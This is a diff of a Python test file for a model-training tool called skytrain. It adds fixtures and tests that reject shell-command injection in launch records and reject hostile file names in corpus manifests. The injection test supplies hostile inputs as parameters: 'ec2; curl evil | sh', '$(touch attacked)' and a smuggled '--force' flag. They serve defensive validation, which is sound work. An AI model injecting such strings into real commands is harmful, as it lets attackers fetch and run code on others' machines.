@@ -23,13 +23,15 @@ import skytrain
 from skytrain.aws.training_image import RECORD, pushed_image
 from skytrain.checkpoints import commits
 from skytrain.config import SkytrainError, visible
-from skytrain.corpus.manifest import open_corpus
+from skytrain.corpus.chunks import read_head
+from skytrain.corpus.manifest import CorpusManifest, CorpusPart, open_corpus
 from skytrain.evaluation.ensemble import read_ensemble
 from skytrain.jobs.rendezvous import list_meeting, read_generation
 from skytrain.merging.provenance import read_provenance
 from skytrain.pipelines.costs import costs
 from skytrain.pipelines.dashboard import StoreWatch
 from skytrain.pipelines.data import list_data
+from skytrain.pipelines.duplicates import _kept
 from skytrain.pipelines.report import _scores, compare, report
 from skytrain.pipelines.runs import list_entries, rename_run
 from skytrain.pipelines.status import overview
@@ -55,7 +57,8 @@ from skytrain.runs import (
 )
 from skytrain.runs.meter import Count, final_counts
 from skytrain.runs.metrics import last_metrics
-from skytrain.storage import Store, open_store
+from skytrain.storage import DamagedRecord, Store, open_store
+from skytrain.storage.staged import find_staged, read_staged
 from skytrain.targets.leftovers import _active_runs
 from skytrain.targets.run_view import RunWatch
 from skytrain.tokens.chat import BadChat, ChatTemplate
@@ -98,6 +101,12 @@ DECISION = {"number": 0, "trial": RATE, "usd": 1.0, "why": "w", "limit_usd": 1.0
 SESSION = {"machine": "m", "place": "p", "process": "1-2", "began": 1.0, "usd_per_hour": 1.0, "at": 1.0, "within": 1.0}
 SPEND = {"usd": 1.0, "machines": {"i-1 x": {"usd": 1.0, "seconds": 1.0, "boot": "b", "boot_seconds": 1.0}}}
 STAGE = {"name": "train", "run": "mine", "machines": "m", "hours": 1.0, "usd": 1.0, "most_usd": None}
+STAGED = {
+    "repository": "o/n",
+    "commit": "0" * 40,
+    "license": None,
+    "files": {"config.json": {"bytes": 1, "sha256": "0"}},
+}
 SCORES = {"step": 2, "tasks": {"t": {"items": 3, "metrics": {"acc": {"value": 0.5, "stderr": 0.1}}}}}
 
 
@@ -173,6 +182,9 @@ READERS = (
     Reader("sweeps/s/ledger/trial-000.json", sweep, {"what": "trial-000", "reserved_usd": 1.0, "charged_usd": 1.0}),
     Reader("tokens/*/*/*/train/manifest.json", lambda store: find_manifest(store, prefix_of(store))),
     Reader("corpora/d/v/manifest.json", lambda store: open_corpus(store, "d", "v"), {"dataset": "d", "version": "v", "parts": []}),
+    Reader("models/o/n.refs.json", lambda store: find_staged(store, "o/n"), {"main": "0" * 40}),
+    Reader(f"models/o/n@{'0' * 40}/manifest.json", lambda store: read_staged(store, f"models/o/n@{'0' * 40}"), STAGED),
+    Reader("corpora/d/v/clean/000000-000000.bin", lambda store: read_head(store, "corpora/d/v/clean/000000-000000.bin"), {"a": 1}),
     Reader(RECORD, pushed_image, dict.fromkeys(("uri", "tag", "base", "revision", "pushed_at"), "x")),
 )  # fmt: skip
 
@@ -454,3 +466,38 @@ def test_code_is_never_unpickled_from_a_store() -> None:
     for path in source.rglob("*.py"):
         for call in re.findall(r"\btorch\.load\([^)]*\)", path.read_text()):
             assert "weights_only=True" in call, path
+
+
+@pytest.mark.parametrize("field", ["target", "region"])
+@pytest.mark.parametrize("value", ["ec2; curl evil | sh", "$(touch attacked)", "ec2 --force", "x\ny"])
+def test_no_word_of_a_launch_record_becomes_part_of_a_command(
+    field: str, value: str, trained: Path, tmp_path: Path
+) -> None:
+    """Messages say what to type: skytrain stop mine cloud=TARGET. A machine of the run may write that record."""
+    root = Path(shutil.copytree(trained, tmp_path / "store"))
+    (root / "runs/mine/launches").mkdir()
+    (root / "runs/mine/launches/00001.json").write_text(json.dumps({**asdict(LAUNCH), field: value}))
+    with pytest.raises(DamagedRecord, match="is no target"):
+        launches_of(open_store(str(root)), "mine")
+
+
+def test_an_export_of_a_corpus_has_files_with_the_names_of_parts_only(tmp_path: Path) -> None:
+    """A manifest with another name would have a file of the person's replaced, where they export to."""
+    part = CorpusPart(name="notes.txt", documents=1, text_bytes=1, bytes=1, sha256="0" * 64)
+    manifest = CorpusManifest(
+        dataset="d", version="v", recipe="r", settings={}, fingerprint={}, complete=True, documents_read=1, text_bytes_read=1,
+        documents=1, text_bytes=1, stages=[], removed={}, parts=[part],
+    )  # fmt: skip
+    store = open_store(str(tmp_path))
+    for name in ("notes.txt", ".bashrc", "a/b.parquet", "part-00000.parquet.sh"):
+        store.write("corpora/d/v/manifest.json", replace(manifest, parts=[replace(part, name=name)]).to_json())
+        with pytest.raises(DamagedRecord, match="is not the name of a part"):
+            open_corpus(store, "d", "v")
+    store.write(
+        "corpora/d/v/manifest.json", replace(manifest, parts=[replace(part, name="part-00000.parquet")]).to_json()
+    )
+    assert open_corpus(store, "d", "v").parts[0].name == "part-00000.parquet"
+
+
+def test_documents_that_are_each_others_duplicates_do_not_take_for_ever() -> None:
+    assert _kept({"a": "b", "b": "a"}, "a") in ("a", "b")
